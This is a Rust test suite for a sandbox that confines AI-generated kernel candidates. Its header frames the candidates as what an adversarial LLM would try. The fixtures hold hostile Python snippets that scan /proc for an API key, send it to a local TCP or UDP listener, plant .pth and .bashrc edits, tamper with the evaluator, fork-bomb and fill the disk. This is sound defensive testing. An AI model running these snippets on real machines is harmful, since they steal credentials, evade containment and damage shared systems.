//! Issue 19: candidate code runs in a sandbox. Whole runs on the stand-in node (a fake
//! nvidia-smi, the stand-in evaluator, whose `run_code=yes` marker runs the candidate's module
//! as the real evaluator's import does), with candidates that try what an adversarial LLM
//! would: read the user's API key through /proc, reach a listener the test holds, plant a .pth
//! file, write into the kernel directory, tools/, another candidate's folder and $HOME, fork
//! without end, fill their scratch, read the journal and the prompts. Each must fail inside the
//! sandbox, and the run go on. Then what a machine without user namespaces gets under each of
//! the three settings (a user namespace of the test's own whose max_user_namespaces is 0).

mod support;

use std::io::ErrorKind;
use std::net::{TcpListener, UdpSocket};
use std::path::PathBuf;
use std::process::{Command, Output};
use std::time::Duration;

use serde_json::Value;
use support::gone_within;
use support::journal::{Journal, finished};
use support::runs::{Running, children_of_run, journal, stderr, wait_for};
use support::standin_node::Node;

/// The key kactors' environment holds in every stand-in run, which no child may read.
const KEY: &str = "sk-ant-never-in-a-child";

fn reason(records: &[Value], candidate: u64) -> String {
    finished(records, candidate)["reason"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

/// A candidate whose module does `attack` when the stand-in runs it.
fn attacker(attack: &str) -> String {
    format!(
        "# standin: pass run_code=yes\nimport glob, os, socket, sysconfig\n{attack}\n\ndef kernel_function(x):\n    return x\n"
    )
}

/// One round of twelve candidates on one device, none refined, with room for the fork bomb and
/// the disk filler on a loaded machine.
const TWELVE_ON_ONE_DEVICE: &str = "platform: nvidia\nprovider: replay\nnum_workers: 1\n\
    test_timeout_s: 60\nkill_grace_s: 0.3\nmax_rounds: 1\nmax_refinements: 0\nmax_inflight: 1\n\
    strategy_config:\n  num_top_kernels: 3\n  num_bottlenecks: 4\n";

struct Attack {
    node: Node,
    tcp: TcpListener,
    udp: UdpSocket,
    pth: PathBuf,
}

impl Attack {
    fn new() -> Attack {
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        tcp.set_nonblocking(true).unwrap();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_nonblocking(true).unwrap();
        let purelib = Command::new("python3")
            .args([
                "-c",
                "import sysconfig; print(sysconfig.get_paths()['purelib'])",
            ])
            .output()
            .unwrap();
        let pth = PathBuf::from(String::from_utf8(purelib.stdout).unwrap().trim())
            .join("kactors_sandbox_test.pth");
        let node = Node::new(&[]);
        let root = node.dir.path().to_path_buf();
        let runs = root.join("runs").display().to_string();
        let kernel = root.join("kernel").display().to_string();
        let (tcp_port, udp_port) = (
            tcp.local_addr().unwrap().port(),
            udp.local_addr().unwrap().port(),
        );
        let candidates = [
            (
                "01_credentials.py",
                attacker(&format!(
                    "found, seen = [], [p for p in os.listdir('/proc') if p.isdigit()]\n\
                     for pid in seen:\n    for name in ('environ', 'cmdline'):\n        try:\n            \
                     with open(f'/proc/{{pid}}/{{name}}', 'rb') as f:\n                \
                     if b'{KEY}' in f.read():\n                    found.append(pid)\n        \
                     except OSError:\n            pass\n\
                     raise RuntimeError(f'read the key in /proc/{{found}}' if found else \
                     f'saw {{len(seen)}} processes and no key')"
                )),
            ),
            (
                "02_tcp.py",
                attacker(&format!(
                    "socket.create_connection(('127.0.0.1', {tcp_port}), timeout=2).sendall(b'{KEY}')"
                )),
            ),
            (
                "03_udp.py",
                attacker(&format!(
                    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{KEY}', ('127.0.0.1', {udp_port}))"
                )),
            ),
            (
                "04_pth.py",
                attacker(&format!(
                    "open('{}', 'w').write('# written by a kactors sandbox test\\n')",
                    pth.display()
                )),
            ),
            (
                "05_kernel_dir.py",
                attacker(&format!("open('{kernel}/planted.py', 'w').write('x = 1\\n')")),
            ),
            (
                "06_tools.py",
                attacker(&format!(
                    "open(glob.glob('{runs}/*/tools/evaluator.py')[0], 'a').write('# planted\\n')"
                )),
            ),
            (
                "07_other_candidate.py",
                attacker(&format!(
                    "open(glob.glob('{runs}/*/candidates/1/kernel.py')[0], 'a').write('# planted\\n')"
                )),
            ),
            (
                "08_home.py",
                attacker("open(os.path.expanduser('~/.bashrc'), 'a').write('# planted\\n')"),
            ),
            (
                "09_journal_and_prompts.py",
                attacker(&format!(
                    "for pattern in ('journal.jsonl', 'candidates/1/prompt.md'):\n    \
                     open(glob.glob('{runs}/*/' + pattern)[0]).read()"
                )),
            ),
            (
                "10_fork_bomb.py",
                attacker(
                    "import signal\nchildren = []\ntry:\n    for _ in range(20000):\n        \
                     pid = os.fork()\n        if pid == 0:\n            signal.pause()\n            \
                     os._exit(0)\n        children.append(pid)\n    raise RuntimeError('forked 20000')\n\
                     except OSError as error:\n    raise RuntimeError(f'forked {len(children)}, then {error}')\n\
                     finally:\n    for pid in children:\n        os.kill(pid, signal.SIGKILL)\n        \
                     os.waitpid(pid, 0)",
                ),
            ),
            (
                "11_disk_filler.py",
                attacker(
                    "written = 0\nchunk = b'x' * (1 << 20)\ntry:\n    with open(os.path.join(os.environ['TMPDIR'], 'fill'), 'wb') as f:\n        \
                     for _ in range(1 << 16):\n            f.write(chunk)\n            f.flush()\n            \
                     written += 1\nexcept OSError as error:\n    raise RuntimeError(f'wrote {written} MiB, then {error}')",
                ),
            ),
            (
                "12_honest.py",
                "# standin: pass run_code=yes time_ms=1.0\ntotal = sum(range(10))\n\ndef kernel_function(x):\n    return x * 1\n"
                    .to_string(),
            ),
        ];
        for (name, source) in &candidates {
            std::fs::write(root.join("kernel/candidates").join(name), source).unwrap();
        }
        std::fs::create_dir_all(root.join("home")).unwrap();
        Attack {
            node: node.with_strategy(TWELVE_ON_ONE_DEVICE),
            tcp,
            udp,
            pth,
        }
    }

    fn run(&self) -> Output {
        let home = self.node.dir.path().join("home");
        self.node.run_command().env("HOME", home).output().unwrap()
    }
}

#[test]
fn every_tampering_candidate_fails_inside_the_sandbox_and_the_run_goes_on() {
    let attack = Attack::new();
    let output = attack.run();
    let _ = std::fs::remove_file(&attack.pth);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let run = attack.node.run_dir();
    let records = journal(&run);
    let refused = |candidate: u64, words: &str| {
        let reason = reason(&records, candidate);
        assert!(
            reason.contains(words),
            "candidate {candidate}: {reason:?} does not say {words:?}"
        );
    };
    refused(1, "processes and no key");
    let seen: usize = reason(&records, 1)
        .split("saw ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next())
        .and_then(|count| count.parse().ok())
        .unwrap();
    assert!(seen <= 8, "the sandbox shows {seen} processes");
    for candidate in [2, 3] {
        refused(candidate, "PermissionError");
    }
    for candidate in [4, 5, 6, 7, 8, 9] {
        refused(candidate, "[Errno 13] Permission denied");
    }
    refused(10, "Resource temporarily unavailable");
    refused(11, "No space left on device");
    assert_eq!(finished(&records, 12)["passed"], true, "{records:#?}");

    assert!(
        matches!(attack.tcp.accept(), Err(error) if error.kind() == ErrorKind::WouldBlock),
        "a candidate reached the TCP listener"
    );
    let mut datagram = [0u8; 64];
    assert!(
        matches!(attack.udp.recv(&mut datagram), Err(error) if error.kind() == ErrorKind::WouldBlock),
        "a candidate reached the UDP socket"
    );
    let root = attack.node.dir.path();
    assert!(!attack.pth.exists(), "a .pth file was planted");
    assert!(!root.join("kernel/planted.py").exists());
    assert!(!root.join("home/.bashrc").exists());
    for planted in ["tools/evaluator.py", "candidates/1/kernel.py"] {
        let text = std::fs::read_to_string(run.join(planted)).unwrap();
        assert!(!text.contains("# planted"), "{planted} was written");
    }
    let started = &records[0];
    assert_eq!(started["sandbox"]["setting"], "required");
    let report = std::fs::read_to_string(run.join("report.md")).unwrap();
    assert!(
        report.contains("## Sandbox") && report.contains("- sandbox credentials: "),
        "{report}"
    );
}

/// The run directory, once its journal says `candidate` started verifying.
fn wait_until_verifying(node: &Node, candidate: u64) -> PathBuf {
    wait_for(&format!("candidate {candidate} to start verifying"), || {
        let run = std::fs::read_dir(node.dir.path().join("runs"))
            .ok()?
            .next()?
            .ok()?
            .path();
        Journal::peek(&run)
            .of_type("step_started")
            .any(|record| record["candidate"] == candidate && record["step"] == "verify")
            .then_some(run)
    })
}

#[test]
fn sigkill_of_kactors_leaves_no_sandboxed_process_behind() {
    let node = Node::new(&[(
        "01_hang.py",
        "# standin: hang\ndef kernel_function(x):\n    return x + 1\n",
    )])
    .on_one_device();
    let kactors = Running::background(node.run_command());
    let run = wait_until_verifying(&node, 1);
    let run = std::fs::canonicalize(run).unwrap();
    let children = children_of_run(&run);
    assert!(
        children.len() >= 4,
        "the launcher, init, the zygote and its child: {children:?}"
    );
    kactors.kill_and_wait();
    for pid in children {
        assert!(
            gone_within(pid, Duration::from_secs(5)),
            "process {pid} of the sandbox outlived kactors"
        );
    }
}

/// kactors run inside a user namespace of the test's own that allows no further one, as on a
/// cluster with unprivileged user namespaces turned off: `args` after `kactors`.
fn without_user_namespaces(node: &Node, args: &[std::ffi::OsString]) -> Output {
    let kactors = node.kactors();
    let mut command = Command::new("unshare");
    command
        .args(["--user", "--map-root-user", "sh", "-c"])
        .arg("echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\"")
        .arg("sh")
        .arg(kactors.get_program())
        .args(args)
        .current_dir(node.dir.path());
    for (name, value) in kactors.get_envs() {
        match value {
            Some(value) => command.env(name, value),
            None => command.env_remove(name),
        };
    }
    command.output().unwrap()
}

fn strategy_with(setting: &str) -> String {
    format!(
        "platform: nvidia\nprovider: replay\nnum_workers: 1\ntest_timeout_s: 20\n\
         kill_grace_s: 0.3\nmax_rounds: 1\nmax_refinements: 0\nstrategy_config:\n  \
         num_top_kernels: 1\n  num_bottlenecks: 1\nsandbox: {setting}\n"
    )
}

fn honest_node(setting: &str) -> Node {
    Node::new(&[(
        "01_honest.py",
        "# standin: pass run_code=yes time_ms=1.0\ndef kernel_function(x):\n    return x * 1\n",
    )])
    .with_strategy(&strategy_with(setting))
}

#[test]
fn check_says_which_protection_is_missing_and_why_and_a_required_sandbox_refuses_the_run() {
    let node = honest_node("required");
    let check = without_user_namespaces(&node, &Node::arguments("check"));
    let printed = String::from_utf8_lossy(&check.stdout);
    let line = |start: &str| {
        printed
            .lines()
            .find(|line| line.starts_with(start))
            .unwrap_or_else(|| panic!("no line {start:?} in:\n{printed}"))
            .to_string()
    };
    let credentials = line("FAIL sandbox credentials: missing: user namespace: unshare: ");
    assert!(
        credentials.contains("`sandbox: best_effort`") && credentials.contains("`sandbox: off`"),
        "{credentials}"
    );
    line("ok sandbox network: seccomp (no inet sockets, no io_uring)");
    line("ok sandbox filesystem: landlock");
    line("FAIL sandbox limits: missing: bounded scratch: unshare: ");
    assert_ne!(check.status.code(), Some(0), "{printed}");

    let run = without_user_namespaces(&node, &Node::arguments("run"));
    let said = stderr(&run);
    assert_eq!(run.status.code(), Some(2), "{said}");
    assert!(
        said.contains("FAIL sandbox credentials: missing: user namespace")
            && said.contains("`sandbox: best_effort`"),
        "{said}"
    );
    assert!(!node.dir.path().join("runs").exists() || node.run_dir().read_dir().is_err());
}

#[test]
fn best_effort_runs_with_what_the_machine_has_and_says_once_what_is_missing() {
    let node = honest_node("best_effort");
    let run = without_user_namespaces(&node, &Node::arguments("run"));
    let said = stderr(&run);
    assert_eq!(run.status.code(), Some(0), "{said}");
    assert_eq!(
        said.matches("FAIL sandbox credentials: missing").count(),
        1,
        "{said}"
    );
    assert!(said.contains("candidates run without it"), "{said}");
    let records = journal(&node.run_dir());
    assert_eq!(finished(&records, 1)["passed"], true);
    let protections = records[0]["sandbox"]["protections"].to_string();
    assert!(
        protections.contains("sandbox credentials: missing")
            && protections.contains("sandbox filesystem: landlock"),
        "{protections}"
    );
}

#[test]
fn off_runs_unsandboxed_and_says_so_once() {
    let node = honest_node("off");
    let output = node.run_command().output().unwrap();
    let said = stderr(&output);
    assert_eq!(output.status.code(), Some(0), "{said}");
    assert_eq!(said.matches("warning: sandbox: off").count(), 1, "{said}");
    let report = std::fs::read_to_string(node.run_dir().join("report.md")).unwrap();
    assert!(report.contains("None (`sandbox: off`)"), "{report}");
}

/// Where nothing the child needs lies under /tmp (as on a user's machine, unlike a test's
/// temporary folders), it gets a private /tmp it may write, and the machine's /tmp is out of
/// its sight; Triton's home, which it makes on import, is in the scratch (on the H200 a
/// read-only $HOME stopped every sandboxed evaluator from starting).
#[test]
fn a_child_that_needs_nothing_under_tmp_gets_a_private_tmp_it_may_write() {
    // /var/tmp (the FHS's other temporary folder), not the build's target/: a clone of the
    // repository may itself lie under /tmp.
    let folder = tempfile::tempdir_in("/var/tmp").unwrap();
    let root = folder.path();
    assert!(!root.starts_with("/tmp"), "{}", root.display());
    std::fs::create_dir_all(root.join("own")).unwrap();
    let outside = tempfile::NamedTempFile::new_in("/tmp").unwrap();
    let script = format!(
        "import os, tempfile\n\
         handle, path = tempfile.mkstemp()\n\
         os.write(handle, b'ok')\n\
         os.makedirs(os.path.join(os.environ['TRITON_HOME'], '.triton'))\n\
         print(path, os.path.exists({:?}))\n",
        outside.path().display().to_string()
    );
    let output = Command::new(env!("CARGO_BIN_EXE_kactors"))
        .args(["sandbox-exec", "--level", "required", "--scratch"])
        .arg(root.join("scratch"))
        .args(["--scratch-bytes", "67108864", "--max-tasks", "512"])
        .args(["--max-file-bytes", "1048576", "--writable"])
        .arg(root.join("own"))
        .arg("--hide")
        .arg(root)
        .args(["--", "python3", "-c", &script])
        .current_dir("/")
        .output()
        .unwrap();
    let printed = String::from_utf8_lossy(&output.stdout);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{printed}{}",
        stderr(&output)
    );
    assert!(printed.starts_with("/tmp/"), "{printed}");
    assert!(
        printed.trim_end().ends_with("False"),
        "the machine's /tmp: {printed}"
    );
}
